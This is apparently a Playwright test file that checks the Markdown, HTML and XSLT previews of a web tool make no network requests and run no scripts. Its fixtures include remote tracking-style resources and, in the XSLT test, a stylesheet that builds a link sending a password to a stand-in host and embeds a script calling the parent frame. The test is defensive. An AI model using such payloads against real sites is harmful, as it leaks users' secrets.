// An HTML preview sends nothing anywhere, so untrusted HTML cannot track the user. Remote images,
// video, audio and table backgrounds load nothing (a placeholder shows), links open nothing, and
// only the user's "Load remote images in the preview" fetches https images. The "remote" server is
// a route fixture (remote.test): nothing here reaches the internet.
import { type FrameLocator, type Page, expect, test } from "@playwright/test";
import { fillInput, gotoHydrated, readOutput } from "./support";

const REMOTE = /^https?:\/\/remote\.test\//;
/** A 1×1 PNG the fake remote server answers with. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
const REMOTE_IMAGES = "Load remote images in the preview";

const MARKDOWN = [
  "# Remote things",
  "",
  "![Logo](https://remote.test/md-img-secretword.png)",
  "",
  '<video src="https://remote.test/md-video-secretword.mp4" poster="https://remote.test/md-poster-secretword.png" autoplay controls></video>',
  "",
  '<audio autoplay src="https://remote.test/md-audio-secretword.mp3"></audio>',
  "",
  '<table background="https://remote.test/md-bg-secretword.png"><tr><td>cell</td></tr></table>',
  "",
  "![relative](md-relative-secretword.png)",
  "",
  "[a link](https://remote.test/md-link-secretword)",
].join("\n");

/**
 * Every request that is not one of the site's own files: to another origin, or to a path of
 * ours that only the previewed document names (all of those contain "secretword").
 */
function watchLeaks(page: Page, origin: string): string[] {
  const leaks: string[] = [];
  page.on("request", (request) => {
    const url = request.url();
    if (url.startsWith("data:") || url.startsWith("blob:")) return;
    if (new URL(url).origin !== origin || url.includes("secretword")) leaks.push(url);
  });
  return leaks;
}

async function fakeRemoteServer(page: Page) {
  await page.route(REMOTE, (route) =>
    route.fulfill({ status: 200, contentType: "image/png", body: PNG }),
  );
}

/** Gives a request time to be made (a click's navigation, an image load). */
async function settle(page: Page) {
  await page.waitForTimeout(1000);
}

const frame = (page: Page, title: string): FrameLocator =>
  page.frameLocator(`iframe[title="${title}"]`);

test.describe("/markdown-to-html", () => {
  const TITLE = "Preview of the rendered HTML";

  test.beforeEach(async ({ page }) => {
    await fakeRemoteServer(page);
    await gotoHydrated(page, "/markdown-to-html");
  });

  test("a remote image, video, audio and table background load nothing", async ({
    page,
    baseURL,
  }) => {
    const leaks = watchLeaks(page, new URL(baseURL!).origin);
    await fillInput(page, MARKDOWN);
    await expect.poll(() => readOutput(page)).toContain("md-link-secretword");
    await settle(page);
    expect(leaks).toEqual([]);
    await expect(frame(page, TITLE).getByRole("heading", { name: "Remote things" })).toBeVisible();
    await expect(frame(page, TITLE).getByRole("cell", { name: "cell" })).toBeVisible();
  });

  test("a remote image shows a placeholder until remote images are allowed", async ({
    page,
    baseURL,
  }) => {
    const leaks = watchLeaks(page, new URL(baseURL!).origin);
    await fillInput(page, MARKDOWN);
    const preview = frame(page, TITLE);
    const placeholder = preview.getByRole("img", { name: "Image not loaded: Logo" });
    await expect(placeholder).toBeVisible();
    await expect(placeholder).toHaveAttribute("title", /md-img-secretword\.png/);
    await expect(preview.getByRole("img", { name: "Image not loaded: relative" })).toBeVisible();
    await expect(page.getByText("2 images not loaded")).toBeVisible();

    const loaded = page.waitForRequest("https://remote.test/md-img-secretword.png");
    await page.getByLabel(REMOTE_IMAGES).check();
    await loaded;
    const image = preview.getByRole("img", { name: "Logo", exact: true });
    await expect(image).toBeVisible();
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
    await settle(page);
    // Only the https image was fetched: the video, audio and the relative image still were not.
    expect(leaks).toEqual(["https://remote.test/md-img-secretword.png"]);
  });

  test("a link in the preview opens nothing and shows its target on hover", async ({
    page,
    baseURL,
  }) => {
    const leaks = watchLeaks(page, new URL(baseURL!).origin);
    await fillInput(page, MARKDOWN);
    const link = frame(page, TITLE).getByText("a link");
    await expect(link).toHaveAttribute("title", "https://remote.test/md-link-secretword");
    await link.click();
    await settle(page);
    expect(leaks).toEqual([]);
    expect(page.url()).toMatch(/\/markdown-to-html$/);
    await expect(frame(page, TITLE).getByRole("heading", { name: "Remote things" })).toBeVisible();
  });
});

test.describe("/html-to-markdown", () => {
  const TITLE = "Preview of the Markdown";

  test("the preview loads no remote image and its links open nothing", async ({
    page,
    baseURL,
  }) => {
    await fakeRemoteServer(page);
    await gotoHydrated(page, "/html-to-markdown");
    const leaks = watchLeaks(page, new URL(baseURL!).origin);
    await fillInput(
      page,
      '<h1>Page</h1><img src="https://remote.test/h2m-img-secretword.png" alt="pic">' +
        '<p><a href="https://remote.test/h2m-link-secretword">go</a></p>',
    );
    await expect.poll(() => readOutput(page)).toContain("h2m-link-secretword");
    const preview = frame(page, TITLE);
    await expect(preview.getByRole("img", { name: "Image not loaded: pic" })).toBeVisible();
    await preview.getByText("go", { exact: true }).click();
    await settle(page);
    expect(leaks).toEqual([]);
    await expect(preview.getByRole("heading", { name: "Page" })).toBeVisible();
  });
});

test.describe("/xslt-transformer", () => {
  const TITLE = "Preview of the HTML result";

  test("a link the stylesheet made from the data opens nothing, and no script runs", async ({
    page,
    baseURL,
  }) => {
    await fakeRemoteServer(page);
    await gotoHydrated(page, "/xslt-transformer");
    const leaks = watchLeaks(page, new URL(baseURL!).origin);
    await page.evaluate(() => {
      window.addEventListener("message", () => {
        document.documentElement.dataset.frameMessage = "script ran";
      });
    });
    for (const [label, text] of [
      ["Input", "<account><password>secretword</password></account>"],
      [
        "XSLT",
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
          '<xsl:output method="html"/><xsl:template match="/"><html><body><h1>Account</h1>' +
          '<a href="https://remote.test/leak?p={account/password}">Continue</a>' +
          '<img src="https://remote.test/xslt-img-secretword.png" alt="logo"/>' +
          '<script>parent.postMessage("ran", "*")</script>' +
          "</body></html></xsl:template></xsl:stylesheet>",
      ],
    ]) {
      await page.getByLabel(label, { exact: true }).click();
      const editor = page.locator(`.cm-content[aria-label="${label}"]`);
      await expect(editor).toBeVisible();
      await editor.fill(text);
    }
    await page.getByRole("tab", { name: "Preview" }).click();
    const preview = frame(page, TITLE);
    await expect(preview.getByRole("heading", { name: "Account" })).toBeVisible();
    const link = preview.getByText("Continue");
    await link.click();
    await settle(page);
    expect(leaks).toEqual([]);
    await expect(link).toHaveAttribute("title", "https://remote.test/leak?p=secretword");
    await expect(preview.getByRole("img", { name: "Image not loaded: logo" })).toBeVisible();
    expect(
      await page.evaluate(() => document.documentElement.dataset.frameMessage),
    ).toBeUndefined();
  });
});
